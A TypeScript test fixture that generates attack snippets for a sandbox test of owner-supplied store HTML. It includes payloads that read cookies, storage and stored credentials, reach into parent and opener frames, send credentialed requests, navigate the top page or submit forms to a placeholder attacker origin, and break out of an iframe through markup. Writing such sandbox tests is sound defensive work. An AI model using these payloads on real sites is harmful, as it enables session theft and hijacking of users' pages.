// Attacks by the HTML that an owner adds to a store. They attack the page that frames the HTML, the page that opened
// the store, and the origin's data in the browser. An attack that succeeds reports its success. Effects that it can't
// report are observed by the test from outside.
import { attackerOrigin } from './text-attacks.ts'

const attempts: Record<string, string> = {
  'read cookies': 'document.cookie; reached()',
  'write cookies': "document.cookie = 'stolen=1'; reached()",
  'read local storage': 'localStorage.length; reached()',
  'write local storage': "localStorage.setItem('stolen', '1'); reached()",
  'read session storage': 'sessionStorage.length; reached()',
  'open a database': "indexedDB.open('stolen').onsuccess = reached",
  'open a cache': "caches.open('stolen').then(reached)",
  'open a private file': 'navigator.storage.getDirectory().then(reached)',
  'register a service worker': "navigator.serviceWorker.register('/@lamps/snippet').then(reached)",
  'take a lock': "navigator.locks.request('stolen', reached)",
  'join a channel': "new BroadcastChannel('stolen').postMessage('x'); if (origin !== 'null') reached()",
  'have an origin': "if (self.origin !== 'null') reached()",
  'read the parent': 'parent.document.body; reached()',
  'read the top': 'top.document.cookie; reached()',
  "read the parent's storage": 'parent.localStorage.length; reached()',
  "read the parent's address": 'parent.location.href; reached()',
  "read the parent's history": 'parent.history.length; reached()',
  'read its own frame element': 'if (frameElement) reached()',
  'write into the parent': "parent.document.title = 'stolen'; reached()",
  'call into the parent': "parent.eval('1'); reached()",
  'navigate the top': `top.location = '${attackerOrigin}/top'`,
  'navigate the top by replace': `top.location.replace('${attackerOrigin}/top')`,
  'navigate the parent': `parent.location.href = '${attackerOrigin}/parent'`,
  'navigate the top to a script': "top.location = 'javascript:document.title=1'",
  'navigate the opener': `top.opener.location = '${attackerOrigin}/opener'`,
  'read the opener': 'top.opener.document.cookie; reached()',
  'close the page': 'top.close()',
  'click a link that leads the top away': `const a = document.createElement('a'); a.href = '${attackerOrigin}/top'; a.target = '_top'; document.body.append(a); a.click()`,
  'click a link that opens a window': `const a = document.createElement('a'); a.href = '${attackerOrigin}/window'; a.target = '_blank'; document.body.append(a); a.click()`,
  'open a window': `if (window.open('${attackerOrigin}/window')) reached()`,
  'open a window by its name': `if (window.open('${attackerOrigin}/window', '_top')) reached()`,
  'send a form to the top': `const f = document.createElement('form'); f.action = '${attackerOrigin}/form'; f.target = '_top'; document.body.append(f); f.submit()`,
  'send a form': `const f = document.createElement('form'); f.action = '${attackerOrigin}/form'; document.body.append(f); f.submit()`,
  'show a dialog': 'alert(1)',
  'ask a question': "if (prompt('Password?') !== null) reached()",
  'download a file': `const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x.exe'; document.body.append(a); a.click()`,
  'go full screen': 'document.documentElement.requestFullscreen().then(reached)',
  'lock the pointer': 'document.body.requestPointerLock().then(reached)',
  'read a page of the origin': "fetch('/@lamps').then((r) => r.text()).then(reached)",
  'read a page of the origin with credentials': "fetch('/@lamps', { credentials: 'include' }).then((r) => r.text()).then(reached)",
  'read the app': "fetch(APP + '/v1/me', { credentials: 'include' }).then((r) => r.text()).then(reached)",
  'change something in the app': "fetch(APP + '/v1/me', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' })",
  'frame the app':
    "const f = document.createElement('iframe'); f.src = APP + '/'; f.onload = () => { f.contentDocument.body; reached() }; document.body.append(f)",
  'frame the store and read it':
    "const f = document.createElement('iframe'); f.src = '/@lamps'; f.onload = () => { f.contentDocument.body.textContent; reached() }; document.body.append(f)",
  'make a frame with the origin of the page':
    "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.postMessage(self.origin, \"*\")</scr' + 'ipt>'; onmessage = ({ data }) => data !== 'null' && reached(); document.body.append(f)",
  'make a blob with the origin of the page':
    "new Worker(URL.createObjectURL(new Blob(['postMessage(self.origin)']))).onmessage = ({ data }) => data !== 'null' && reached()",
  'use the camera': 'navigator.mediaDevices.getUserMedia({ video: true }).then(reached)',
  'read the position': 'navigator.geolocation.getCurrentPosition(reached)',
  'read the clipboard': 'navigator.clipboard.readText().then(reached)',
  notify: "Notification.requestPermission().then((p) => p === 'granted' && reached())",
  'read stored credentials': 'navigator.credentials.get({ password: true }).then((c) => c && reached())',
}

/** The names of the attempts. */
export const snippetAttacks: string[] = Object.keys(attempts)

/**
 * Returns a snippet that makes every attempt and then reports `the end`. `appOrigin` is the origin where owners sign
 * in.
 */
export function createAttackSnippet(appOrigin: string): string {
  const scripts = Object.entries(attempts).map(
    ([name, attempt]) =>
      `<script>try { const reached = () => report(${JSON.stringify(name)}); ${attempt.replaceAll('</', '<\\/')} } catch {}</script>`,
  )
  return `<script>const APP = '${appOrigin}'; const report = (name) => { new Image().src = '${attackerOrigin}/reached/' + encodeURIComponent(name) }
addEventListener('unhandledrejection', (event) => event.preventDefault())</script>
${scripts.join('\n')}
<script>report('the end')</script>`
}

/** Snippets that attack by their markup, for example by closing the frame's element. */
export const markupAttacks: string[] = [
  `<meta http-equiv=refresh content="0;url=${attackerOrigin}/refresh">`,
  `<base href="${attackerOrigin}/base/"><base target=_top><a href=x>x</a>`,
  `</iframe><script>top.location='${attackerOrigin}/top'</script>`,
  `<form action="${attackerOrigin}/form" target=_top><button autofocus>x</button></form>`,
  `<a href="${attackerOrigin}/top" target=_top style="position:fixed;inset:0">x</a>`,
  `<iframe src="${attackerOrigin}/frame" sandbox="allow-top-navigation allow-scripts allow-same-origin"></iframe>`,
]
